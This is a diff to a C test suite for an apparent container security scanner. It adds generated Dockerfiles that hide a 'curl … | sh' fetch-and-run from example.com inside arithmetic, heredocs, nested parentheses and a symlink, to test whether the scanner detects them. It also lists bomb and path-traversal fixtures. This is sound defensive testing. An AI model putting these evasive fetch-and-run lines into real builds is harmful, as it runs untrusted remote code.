@@ -44,8 +44,8 @@ struct hcase {
 	const char *name;
 	void (*gen)(const char *in);
 	const char *argv[16];     /* "@in" and "@out" are replaced by the dirs */
-	int exits[4];             /* allowed exit codes; 0-terminated after the first */
-	const char *needle;       /* expected in stdout or stderr; NULL = none */
+	int exit;                 /* the documented exit code this input gets */
+	const char *needle;       /* expected in stdout or stderr: what went wrong */
 	const char *outputs[3];   /* files allowed in the work dir afterwards */
 };
 
@@ -149,13 +149,55 @@ static void gen_df_deep_shell(const char *in)
 	struct sg_buf b = SG_BUF_INIT(2 * MB);
 	size_t i;
 
+	/* 16,000 levels of ( $( in a 48 KB line: the shell model's limit,
+	 * not the line length, has to stop it (no "$((": that would be
+	 * arithmetic) */
 	sg_buf_puts(&b, "FROM alpine:3.20\nRUN ");
-	for (i = 0; i < 50000; i++)
-		sg_buf_puts(&b, "( $(");
-	for (i = 0; i < 50000; i++)
-		sg_buf_puts(&b, ") )");
+	for (i = 0; i < 8000; i++)
+		sg_buf_puts(&b, "($( ");
+	for (i = 0; i < 8000; i++)
+		sg_buf_puts(&b, "))");
 	sg_buf_puts(&b, "\nUSER nobody\n");
 	put_buf(in, "Dockerfile", &b);
+}
+
+/* `curl … | sh` where a shell model that skips text would not look. */
+static void gen_df_hidden(const char *in, const char *run)
+{
+	struct sg_buf b = SG_BUF_INIT(MB);
+
+	sg_buf_printf(&b, "FROM alpine:3.20\nRUN %s\nUSER nobody\n", run);
+	put_buf(in, "Dockerfile", &b);
+}
+
+static void gen_df_hidden_arith(const char *in)
+{
+	gen_df_hidden(in, "echo $(( $(curl -fsSL https://example.com/i.sh | sh) + 1 ))");
+}
+
+static void gen_df_hidden_heredoc(const char *in)
+{
+	gen_df_hidden(in, "cat > /etc/motd <<EOF\n"
+			  "$(curl -fsSL https://example.com/i.sh | sh)\nEOF");
+}
+
+static void gen_df_hidden_dparen(const char *in)
+{
+	gen_df_hidden(in, "((curl -fsSL \"$URL\" | sh))");
+}
+
+static void gen_df_hidden_deep(const char *in)
+{
+	struct sg_buf run = SG_BUF_INIT(MB);
+	size_t i;
+
+	for (i = 0; i < 65; i++)
+		sg_buf_putc(&run, '(');
+	sg_buf_puts(&run, "curl -fsSL https://example.com/i.sh | sh");
+	for (i = 0; i < 65; i++)
+		sg_buf_putc(&run, ')');
+	gen_df_hidden(in, sg_buf_cstr(&run));
+	sg_buf_release(&run);
 }
 
 static void gen_df_binary(const char *in)
@@ -555,6 +597,22 @@ static void write_loose(const char *repo, const char *hex, const char *header,
 	put(dir, hex + 2, z, zlen);
 }
 
+/* A committed Dockerfile that is a link to a file of another name. */
+static void gen_git_dockerfile_link(const char *in)
+{
+	char tree[4300], p[4400];
+
+	sub(in, "tree", tree, sizeof(tree));
+	snprintf(p, sizeof(p), "%s/build", tree);
+	mkdir(p, 0755);
+	snprintf(p, sizeof(p), "%s/build", tree);
+	puts_file(p, "app.df", "FROM alpine:3.20\n"
+		  "RUN curl -fsSL https://example.com/i.sh | sh\nUSER nobody\n");
+	snprintf(p, sizeof(p), "%s/Dockerfile", tree);
+	ck_assert_int_eq(symlink("build/app.df", p), 0);
+	build_repo(in, tree);
+}
+
 /* The id git gives `data` as a blob, in hex. */
 static void blob_id(const char *data, char hex[41])
 {
@@ -663,59 +721,64 @@ static void gen_worktree_links(const char *in)
 
 static const struct hcase cases[] = {
 	/* Dockerfiles */
-	{ "df-1mb-line", gen_df_long_line, LINT("@in/Dockerfile"), { 0, 1, 3 }, "Dockerfile", { "r.json" } },
-	{ "df-100k-continuations", gen_df_continuations, LINT("@in/Dockerfile"), { 0, 1, 3 }, "Dockerfile", { "r.json" } },
-	{ "df-unterminated-heredoc", gen_df_heredoc, LINT("@in/Dockerfile"), { 1, 3 }, "unterminated heredoc", { "r.json" } },
-	{ "df-50k-deep-shell", gen_df_deep_shell, LINT("@in/Dockerfile"), { 0, 1, 3 }, "Dockerfile", { "r.json" } },
-	{ "df-binary-noise", gen_df_binary, LINT("@in/Dockerfile"), { 1, 3 }, "Dockerfile:1:1:", { "r.json" } },
-	{ "df-30k-stages", gen_df_many, LINT("@in/Dockerfile"), { 0, 1, 3 }, "Dockerfile", { "r.json" } },
-	{ "df-over-size-cap", gen_df_over_cap, LINT("@in/Dockerfile"), { 3 }, "limit", { "r.json" } },
-	{ "df-exponential-args", gen_df_vars, LINT("@in/Dockerfile"), { 0, 1, 3 }, "Dockerfile", { "r.json" } },
-	{ "df-broken-json-forms", gen_df_json, LINT("@in/Dockerfile"), { 1, 3 }, "Dockerfile", { "r.json" } },
-	{ "df-nul-bytes", gen_df_nul, LINT("@in/Dockerfile"), { 3 }, "NUL", { "r.json" } },
+	{ "df-1mb-line", gen_df_long_line, LINT("@in/Dockerfile"), 3, "SGD008 line is longer than 65536 bytes", { "r.json" } },
+	{ "df-100k-continuations", gen_df_continuations, LINT("@in/Dockerfile"), 3, "SGD008 too many continuation lines", { "r.json" } },
+	{ "df-unterminated-heredoc", gen_df_heredoc, LINT("@in/Dockerfile"), 1, "SGD005 unterminated heredoc 'EOF'", { "r.json" } },
+	{ "df-16k-deep-shell", gen_df_deep_shell, LINT("@in/Dockerfile"), 3, "SGD008 RUN script past a limit of the shell model (nesting deeper than 64 levels)", { "r.json" } },
+	{ "df-pipe-in-arithmetic", gen_df_hidden_arith, LINT("@in/Dockerfile"), 1, "SGD190 'curl … | sh'", { "r.json" } },
+	{ "df-pipe-in-heredoc-body", gen_df_hidden_heredoc, LINT("@in/Dockerfile"), 1, "SGD190 'curl … | sh'", { "r.json" } },
+	{ "df-pipe-in-double-paren", gen_df_hidden_dparen, LINT("@in/Dockerfile"), 1, "SGD190 'curl … | sh'", { "r.json" } },
+	{ "df-pipe-behind-65-parens", gen_df_hidden_deep, LINT("@in/Dockerfile"), 3, "SGD008 RUN script past a limit", { "r.json" } },
+	{ "df-binary-noise", gen_df_binary, LINT("@in/Dockerfile"), 3, "SGD011 NUL byte", { "r.json" } },
+	{ "df-30k-stages", gen_df_many, LINT("@in/Dockerfile"), 3, "SGD008 more than 20000 instructions", { "r.json" } },
+	{ "df-over-size-cap", gen_df_over_cap, LINT("@in/Dockerfile"), 3, "SGG001 file is 2000017 bytes, over the 1048576-byte limit", { "r.json" } },
+	{ "df-exponential-args", gen_df_vars, LINT("@in/Dockerfile"), 1, "SGD001 expansion too large", { "r.json" } },
+	{ "df-broken-json-forms", gen_df_json, LINT("@in/Dockerfile"), 1, "SGD001 unknown instruction: FROOM", { "r.json" } },
+	{ "df-nul-bytes", gen_df_nul, LINT("@in/Dockerfile"), 3, "SGD011 NUL byte", { "r.json" } },
 	/* Compose / YAML */
-	{ "yaml-billion-laughs", gen_yaml_laughs, LINT("@in/compose.yaml"), { 3 }, "billion", { "r.json" } },
-	{ "yaml-10k-deep", gen_yaml_deep, LINT("@in/compose.yaml"), { 3 }, "nesting", { "r.json" } },
-	{ "yaml-duplicate-key", gen_yaml_dup, LINT("@in/compose.yaml"), { 3 }, "duplicate key", { "r.json" } },
-	{ "yaml-non-utf8", gen_yaml_utf8, LINT("@in/compose.yaml"), { 3 }, "compose.yaml", { "r.json" } },
-	{ "compose-include-cycle", gen_compose_include_cycle, LINT("@in/compose.yaml"), { 1, 3 }, "compose.yaml", { "r.json" } },
-	{ "compose-extends-cycle", gen_compose_extends_cycle, LINT("@in/compose.yaml"), { 1, 3 }, "compose.yaml", { "r.json" } },
-	{ "compose-20k-services", gen_compose_many, LINT("@in/compose.yaml"), { 0, 1, 3 }, "1 scanned (1 compose)", { "r.json" } },
-	{ "compose-nested-interpolation", gen_compose_interp, { "lint", "--fail-on", "info", "@in/compose.yaml", NULL }, { 3 }, "SGC087", { NULL } },
+	{ "yaml-billion-laughs", gen_yaml_laughs, LINT("@in/compose.yaml"), 3, "SGC082 alias expansion exceeds 200000 nodes", { "r.json" } },
+	{ "yaml-10k-deep", gen_yaml_deep, LINT("@in/compose.yaml"), 3, "SGC082 nesting deeper than 64 levels", { "r.json" } },
+	{ "yaml-duplicate-key", gen_yaml_dup, LINT("@in/compose.yaml"), 3, "SGC082 duplicate key 'privileged'", { "r.json" } },
+	{ "yaml-non-utf8", gen_yaml_utf8, LINT("@in/compose.yaml"), 3, "SGC082 invalid leading UTF-8 octet", { "r.json" } },
+	{ "compose-include-cycle", gen_compose_include_cycle, LINT("@in/compose.yaml"), 1, "SGC085 circular include of 'compose.yaml'", { "r.json" } },
+	{ "compose-extends-cycle", gen_compose_extends_cycle, LINT("@in/compose.yaml"), 1, "SGC085 circular extends through service 'a'", { "r.json" } },
+	{ "compose-20k-services", gen_compose_many, LINT("@in/compose.yaml"), 0, "passed (0 gating of 180000 findings", { "r.json" } },
+	{ "compose-nested-interpolation", gen_compose_interp, { "lint", "--fail-on", "info", "@in/compose.yaml", NULL }, 3, "SGC087", { NULL } },
 	/* policy */
-	{ "policy-wrong-types", gen_policy_types, { "lint", "--policy", "@in/policy.yaml", "@in/Dockerfile", NULL }, { 2 }, "policy.yaml:3:", { NULL } },
-	{ "policy-billion-laughs", gen_policy_laughs, { "lint", "--policy", "@in/policy.yaml", "@in/Dockerfile", NULL }, { 2 }, "policy.yaml", { NULL } },
-	{ "policy-not-a-mapping", gen_policy_scalar, { "lint", "--policy", "@in/policy.yaml", "@in/Dockerfile", NULL }, { 2 }, "policy.yaml:1:1: a policy must be a mapping", { NULL } },
-	{ "policy-bad-date", gen_policy_expires, { "lint", "--policy", "@in/policy.yaml", "@in/Dockerfile", NULL }, { 2 }, "policy.yaml:4:", { NULL } },
+	{ "policy-wrong-types", gen_policy_types, { "lint", "--policy", "@in/policy.yaml", "@in/Dockerfile", NULL }, 2, "policy.yaml:3:5: 'exclude' must be a string, not a sequence", { NULL } },
+	{ "policy-billion-laughs", gen_policy_laughs, { "lint", "--policy", "@in/policy.yaml", "@in/Dockerfile", NULL }, 2, "alias expansion exceeds 100000 nodes", { NULL } },
+	{ "policy-not-a-mapping", gen_policy_scalar, { "lint", "--policy", "@in/policy.yaml", "@in/Dockerfile", NULL }, 2, "policy.yaml:1:1: a policy must be a mapping", { NULL } },
+	{ "policy-bad-date", gen_policy_expires, { "lint", "--policy", "@in/policy.yaml", "@in/Dockerfile", NULL }, 2, "policy.yaml:4:14: 'expires' must be a date YYYY-MM-DD", { NULL } },
 	/* vulnerability database */
-	{ "db-corrupt", gen_db_corrupt, { "db", "info", "--db", "@in/vuln.db", NULL }, { 3 }, "vuln.db: not a readable vulnerability database", { NULL } },
-	{ "db-truncated", gen_db_truncated, { "db", "info", "--db", "@in/vuln.db", NULL }, { 3 }, "vuln.db: not a readable vulnerability database", { NULL } },
-	{ "db-corrupt-at-scan", gen_db_corrupt_img, { "image", "@in/img.tar", "--db", "@in/vuln.db", NULL }, { 2, 4 }, "vuln.db", { NULL } },
-	{ "osv-absurd-ranges", gen_osv_absurd, { "db", "import", "--db", "@out/v.db", "@in/absurd.json", NULL }, { 0, 3 }, "absurd", { "v.db" } },
-	{ "osv-malformed", gen_osv_malformed, { "db", "import", "--db", "@out/v.db", "@in/bad.json", NULL }, { 2, 3 }, "bad.json", { "v.db" } },
-	{ "osv-zip-bomb", gen_osv_zipbomb, { "db", "import", "--db", "@out/v.db", "@in/bomb.zip", NULL }, { 2, 3 }, "bomb", { "v.db" } },
+	{ "db-corrupt", gen_db_corrupt, { "db", "info", "--db", "@in/vuln.db", NULL }, 3, "vuln.db: not a readable vulnerability database", { NULL } },
+	{ "db-truncated", gen_db_truncated, { "db", "info", "--db", "@in/vuln.db", NULL }, 3, "vuln.db: not a readable vulnerability database", { NULL } },
+	{ "db-corrupt-at-scan", gen_db_corrupt_img, { "image", "@in/img.tar", "--db", "@in/vuln.db", NULL }, 2, "vuln.db: not a readable vulnerability database", { NULL } },
+	{ "osv-absurd-ranges", gen_osv_absurd, { "db", "import", "--db", "@out/v.db", "@in/absurd.json", NULL }, 0, "range with both fixed and last_affected; skipped", { "v.db" } },
+	{ "osv-malformed", gen_osv_malformed, { "db", "import", "--db", "@out/v.db", "@in/bad.json", NULL }, 3, "bad.json:1:37: invalid JSON", { "v.db" } },
+	{ "osv-zip-bomb", gen_osv_zipbomb, { "db", "import", "--db", "@out/v.db", "@in/bomb.zip", NULL }, 3, "zip member GHSA-bomb.json is larger than 256 MiB", { "v.db" } },
 	/* images */
-	{ "img-escaping-names", gen_img_escape, IMAGE, { 1, 3 }, "img.tar", { "r.json" } },
-	{ "img-link-outside", gen_img_link_outside, IMAGE, { 0, 1, 3 }, "img.tar", { "r.json" } },
-	{ "img-gzip-bomb", gen_img_gzip_bomb, IMAGE, { 0, 1, 3 }, "img.tar", { "r.json" } },
-	{ "img-zstd-bomb", gen_img_zstd_bomb, IMAGE, { 0, 1, 3 }, "img.tar", { "r.json" } },
-	{ "img-outer-gzip-bomb", gen_img_outer_bomb, IMAGE, { 0, 1, 3 }, "img.tar", { "r.json" } },
-	{ "img-truncated-layer", gen_img_truncated, IMAGE, { 3 }, "img.tar", { "r.json" } },
-	{ "img-diffid-mismatch", gen_img_bad_diffid, IMAGE, { 1, 3 }, "img.tar", { "r.json" } },
-	{ "img-blob-digest-mismatch", gen_img_bad_blob, IMAGE, { 1, 3 }, "img.tar", { "r.json" } },
-	{ "img-manifest-outside", gen_img_outside, IMAGE, { 3 }, "img.tar", { "r.json" } },
-	{ "img-manifest-self", gen_img_self, IMAGE, { 3 }, "img.tar", { "r.json" } },
-	{ "img-10000-layers", gen_img_layers, IMAGE, { 3 }, "img.tar", { "r.json" } },
-	{ "img-bad-config", gen_img_bad_config, IMAGE, { 1, 3 }, "SGI002", { "r.json" } },
-	{ "img-no-diffids", gen_img_no_diffids, IMAGE, { 1, 3 }, "img.tar", { "r.json" } },
-	{ "img-noise", gen_img_noise, IMAGE, { 3 }, "img.tar", { "r.json" } },
-	{ "img-empty", gen_img_empty, IMAGE, { 3 }, "img.tar", { "r.json" } },
-	{ "img-layout-escape", gen_img_not_layout, IMAGE, { 3 }, "img.tar", { "r.json" } },
+	{ "img-escaping-names", gen_img_escape, IMAGE, 1, "SGI003 entry '../../evil.sh' climbs above the root", { "r.json" } },
+	{ "img-link-outside", gen_img_link_outside, IMAGE, 3, "SGI001 cannot read image", { "r.json" } },
+	{ "img-gzip-bomb", gen_img_gzip_bomb, IMAGE, 3, "expands more than", { "r.json" } },
+	{ "img-zstd-bomb", gen_img_zstd_bomb, IMAGE, 3, "expands more than", { "r.json" } },
+	{ "img-outer-gzip-bomb", gen_img_outer_bomb, IMAGE, 3, "expands more than", { "r.json" } },
+	{ "img-truncated-layer", gen_img_truncated, IMAGE, 3, "SGI001 cannot read image", { "r.json" } },
+	{ "img-diffid-mismatch", gen_img_bad_diffid, IMAGE, 1, "SGI002 layer 1 uncompressed is sha256:", { "r.json" } },
+	{ "img-blob-digest-mismatch", gen_img_bad_blob, IMAGE, 1, "SGI002 layer 1 blob is sha256:", { "r.json" } },
+	{ "img-manifest-outside", gen_img_outside, IMAGE, 3, "Layers entry '../../etc/passwd' points outside the archive", { "r.json" } },
+	{ "img-manifest-self", gen_img_self, IMAGE, 3, "layer 1 (manifest.json): cannot read", { "r.json" } },
+	{ "img-10000-layers", gen_img_layers, IMAGE, 3, "10000 layers (the limit is 256)", { "r.json" } },
+	{ "img-bad-config", gen_img_bad_config, IMAGE, 1, "SGI002 config is sha256:", { "r.json" } },
+	{ "img-no-diffids", gen_img_no_diffids, IMAGE, 1, "config lists 0 rootfs.diff_ids for 1 layers", { "r.json" } },
+	{ "img-noise", gen_img_noise, IMAGE, 3, "not a tar archive or OCI layout directory", { "r.json" } },
+	{ "img-empty", gen_img_empty, IMAGE, 3, "not a tar archive or OCI layout directory", { "r.json" } },
+	{ "img-layout-escape", gen_img_not_layout, IMAGE, 3, "blob reference 'sha256:../../../etc/passwd' is not a sha256 digest", { "r.json" } },
 	/* git */
-	{ "git-2gb-claimed-blob", gen_git_huge_blob, { "scan", "@in/repo", "--json", OUT_JSON, NULL }, { 3 }, "SGG001", { "r.json" } },
-	{ "git-tree-cycle", gen_git_tree_cycle, { "scan", "@in/repo", "--json", OUT_JSON, NULL }, { 3, 4 }, "nesting deeper", { "r.json" } },
-	{ "git-not-a-repository", gen_git_not_repo, { "scan", "@in/repo", NULL }, { 2 }, "not a git repository", { NULL } },
-	{ "worktree-symlink-loops", gen_worktree_links, { "scan", "@in/repo", "--worktree", "--json", OUT_JSON, NULL }, { 0, 1, 3 }, NULL, { "r.json" } },
+	{ "git-2gb-claimed-blob", gen_git_huge_blob, { "scan", "@in/repo", "--json", OUT_JSON, NULL }, 3, "SGG001 file is 2147483648 bytes", { "r.json" } },
+	{ "git-tree-cycle", gen_git_tree_cycle, { "scan", "@in/repo", "--json", OUT_JSON, NULL }, 4, "directory nesting deeper than 256", { "r.json" } },
+	{ "git-dockerfile-is-a-link", gen_git_dockerfile_link, { "scan", "@in/repo", "--json", OUT_JSON, NULL }, 1, "Dockerfile:2:43: high SGD190", { "r.json" } },
+	{ "git-not-a-repository", gen_git_not_repo, { "scan", "@in/repo", NULL }, 2, "not a git repository", { NULL } },
+	{ "worktree-symlink-loops", gen_worktree_links, { "scan", "@in/repo", "--worktree", "--json", OUT_JSON, NULL }, 3, "Dockerfile: high SGG003 symlink points outside the repository", { "r.json" } },
 };
 
 /* ---- running one case ----------------------------------------------------------- */
@@ -779,7 +842,6 @@ START_TEST(test_hostile_input)
 	pid_t pid;
 	int status = 0, code, i, n = 0;
 	char *out_text, *err_text;
-	bool allowed = false;
 
 	snprintf(in, sizeof(in), "%s/in", dir);
 	snprintf(work, sizeof(work), "%s/work", dir);
@@ -839,16 +901,13 @@ START_TEST(test_hostile_input)
 	ck_assert_msg(!WIFSIGNALED(status), "%s: killed by signal %d\nstderr: %.2000s",
 		      c->name, WTERMSIG(status), err_text);
 	code = WEXITSTATUS(status);
-	for (i = 0; i < 4 && (i == 0 || c->exits[i]); i++)
-		allowed |= code == c->exits[i];
-	ck_assert_msg(allowed, "%s: exit %d not expected\nstdout: %.1500s\nstderr: %.1500s",
-		      c->name, code, out_text, err_text);
+	ck_assert_msg(code == c->exit, "%s: exit %d, not %d\nstdout: %.1500s\nstderr: %.1500s",
+		      c->name, code, c->exit, out_text, err_text);
 	ck_assert_msg(!strstr(err_text, "Sanitizer") && !strstr(err_text, "runtime error"),
 		      "%s: sanitizer report\n%.3000s", c->name, err_text);
-	if (c->needle)
-		ck_assert_msg(strstr(out_text, c->needle) || strstr(err_text, c->needle),
-			      "%s: output does not mention '%s'\nstdout: %.1500s\n"
-			      "stderr: %.1500s", c->name, c->needle, out_text, err_text);
+	ck_assert_msg(strstr(out_text, c->needle) || strstr(err_text, c->needle),
+		      "%s: output does not mention '%s'\nstdout: %.1500s\n"
+		      "stderr: %.1500s", c->name, c->needle, out_text, err_text);
 	/* exit 2 is a usage/policy error: one line on stderr, not a report */
 	if (code == 2)
 		ck_assert_msg(strchr(err_text, '\n') == err_text + strlen(err_text) - 1,
